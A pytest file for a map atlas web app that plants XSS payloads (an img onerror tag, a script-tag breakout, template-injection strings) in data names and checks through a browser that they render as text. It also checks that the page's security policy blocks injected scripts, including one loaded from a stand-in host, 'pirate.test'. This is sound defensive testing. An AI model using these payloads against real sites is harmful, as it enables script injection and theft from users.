"""Names that try to be scripts stay names: in tooltips, in the panel, in every table."""

from __future__ import annotations

import json
from dataclasses import asdict

import pandas as pd
import pytest

from data import chargement
from tests.navigateur.atelier import copier_projet, servir, visiter

IMAGE = "<img src=x onerror=window.pirate=1>"
SCRIPT = "</script><script>window.pirate=1</script>${window.pirate=1}`{{ 7*7 }}"
TI = "ti-2806"
PIRATE = "window.pirate === undefined && (window.parent === window || window.parent.pirate === undefined)"


def recrire(dossier, nom, changer):
    """Alter a processed table as a hostile source would, manifest included."""
    chemin = dossier / f"{nom}.parquet"
    table = changer(pd.read_parquet(chemin))
    table.to_parquet(chemin)
    manifeste = json.loads((dossier / chargement.MANIFESTE).read_text(encoding="utf-8"))
    manifeste[nom] = asdict(chargement.empreinte(chemin, lignes=len(table)))
    (dossier / chargement.MANIFESTE).write_text(json.dumps(manifeste), encoding="utf-8")


@pytest.fixture(scope="module")
def projet(atlas):
    """A project of Nord Cotentin with a place."""
    return atlas.fiche(TI, 2021).projets.dropna(subset="latitude").iloc[0]


@pytest.fixture(scope="module")
def visite(navigateur, tmp_path_factory, projet):
    """A reader of an atlas whose territory, groupement, project and commune have hostile names."""
    racine = copier_projet(tmp_path_factory.mktemp("hostile") / "atlas")
    dossier = racine / "data" / "processed"
    le_projet = {"entreprise": IMAGE, "commune": SCRIPT}
    recrire(
        dossier,
        "projets",
        lambda t: t.assign(
            **{c: t[c].mask(t["id_projet"] == projet["id_projet"], v) for c, v in le_projet.items()}
        ),
    )
    recrire(
        dossier, "territoires", lambda t: t.assign(lib_ti=t["lib_ti"].mask(t["id_ti"] == TI, IMAGE + SCRIPT))
    )
    recrire(dossier, "groupements", lambda t: t.assign(libelle=t["libelle"].mask(t["id_ti"] == TI, IMAGE)))
    environnement = {"ATLAS_DONNEES": str(dossier)}
    with servir(racine, **environnement) as serveur, visiter(navigateur, serveur, bypass_csp=True) as visite:
        yield visite


INJECTIONS = {
    "script": "s => document.body.appendChild(document.createElement('script')).textContent = s",
    "attribut": """s => { const i = document.createElement('img'); i.setAttribute('onerror', s);
      document.body.appendChild(i).src = '/absente.png'; }""",
    "adresse": """s => { const a = document.createElement('a'); a.href = 'javascript:' + s;
      document.body.appendChild(a).click(); }""",
    "eval": "s => { setTimeout(s, 0); }",
    "ailleurs": """() => document.body.appendChild(document.createElement('script')).src =
      'http://pirate.test/x.js'""",
}
"""Ways to make a page run a script that is not its own."""

REFUS = """() => { window.refus = new Promise(pret =>
  document.addEventListener('securitypolicyviolation', e => pret(e.effectiveDirective), {once: true})); }"""


@pytest.mark.parametrize("voie", INJECTIONS)
def test_un_script_injecte_est_refuse_par_la_page(navigateur, serveur, voie):
    with visiter(navigateur, serveur) as protegee:
        page = protegee.aller("/accessibilite")
        page.get_by_role("heading", name="Accessibilité").wait_for()
        page.evaluate(REFUS)
        page.evaluate(INJECTIONS[voie], "window.pirate = 1")
        assert page.evaluate("window.refus").startswith("script-src")
        assert page.evaluate("window.pirate === undefined")


def bulle(visite, latitude, longitude):
    """The tooltip of a place of the map."""
    visite.page.mouse.move(*visite.pixel(latitude, longitude))
    bulle = visite.cadre().locator(".leaflet-tooltip")
    bulle.wait_for()
    return bulle


def test_la_bulle_d_un_projet_montre_son_nom_hostile_en_texte(visite, projet):
    cadre = visite.carte()
    lieu = projet["latitude"], projet["longitude"]
    visite.placer(*lieu, 13)
    trouvee = bulle(visite, *lieu)
    assert trouvee.locator("strong").inner_text() == IMAGE
    assert SCRIPT in trouvee.inner_text()
    assert trouvee.locator("img").count() == 0
    assert cadre.evaluate(PIRATE)


def test_la_bulle_d_un_territoire_montre_son_nom_hostile_en_texte(visite, atlas):
    cadre = visite.carte(f"/?ti={TI}&couches=aucune")
    lieu = cadre.evaluate("(c => [c.lat, c.lng])(window.map.getCenter())")
    trouvee = bulle(visite, *lieu)
    assert trouvee.inner_text() == IMAGE + SCRIPT
    assert cadre.evaluate(PIRATE)


def test_le_panneau_montre_les_noms_hostiles_en_texte(visite):
    cadre = visite.carte(f"/?ti={TI}")
    panneau = visite.page.locator(".atlas-panneau")
    assert panneau.get_by_role("heading", level=2).inner_text() == IMAGE + SCRIPT
    assert panneau.locator(".atlas-groupements li").first.locator("b").inner_text() == IMAGE
    assert panneau.locator("img, script").count() == 0
    assert cadre.evaluate(PIRATE)
